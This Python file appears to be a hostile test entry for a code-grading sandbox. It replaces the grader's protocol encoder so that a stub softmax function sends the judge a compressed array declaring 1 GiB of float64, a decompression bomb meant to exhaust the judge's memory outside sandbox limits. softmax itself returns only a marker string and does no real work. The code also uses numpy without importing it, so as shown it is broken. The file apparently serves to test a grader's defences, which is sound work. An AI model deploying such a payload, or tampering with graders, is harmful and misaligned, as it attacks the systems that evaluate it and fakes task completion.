"""HOSTILE-ENTRY protocol_bomb: in this process, the grader's ``plain_data.encode`` is replaced
so that softmax's replies to the judge become a message the protocol's size check lets
through (about 1 MB on the wire) holding a compressed array that declares 1 GiB of float64. A
judge that unpacks it lets student code allocate the judge's memory, outside every limit of
the sandbox. softmax itself returns a marker, not an array."""

import io as _io
import json as _json
import zipfile as _zipfile

import grader.protocol as _plain_data

_MARKER = "protocol bomb"
_COUNT = 2**27
_CACHE = []


def _bomb():
    if not _CACHE:
        header = _io.BytesIO()
        reply = {"ok": True, "value": {"$array": "a0"}, "modified": {"$list": []}}
        np.save(header, np.array(_json.dumps(reply)))
        buffer = _io.BytesIO()
        with _zipfile.ZipFile(buffer, "w", _zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            archive.writestr("__header__.npy", header.getvalue())
            with archive.open("a0.npy", "w", force_zip64=True) as member:
                np.lib.format.write_array_header_1_0(
                    member, {"descr": "<f8", "fortran_order": False, "shape": (_COUNT,)}
                )
                chunk = bytes(2**20)
                for _ in range(_COUNT * 8 // len(chunk)):
                    member.write(chunk)
        _CACHE.append(buffer.getvalue())
    return _CACHE[0]


_original_encode = _plain_data.encode


def _encode(message):
    if isinstance(message, dict) and isinstance(message.get("value"), str) and (
        message["value"] == _MARKER
    ):
        return _bomb()
    return _original_encode(message)


_plain_data.encode = _encode


def softmax(x, axis=-1):
    return _MARKER
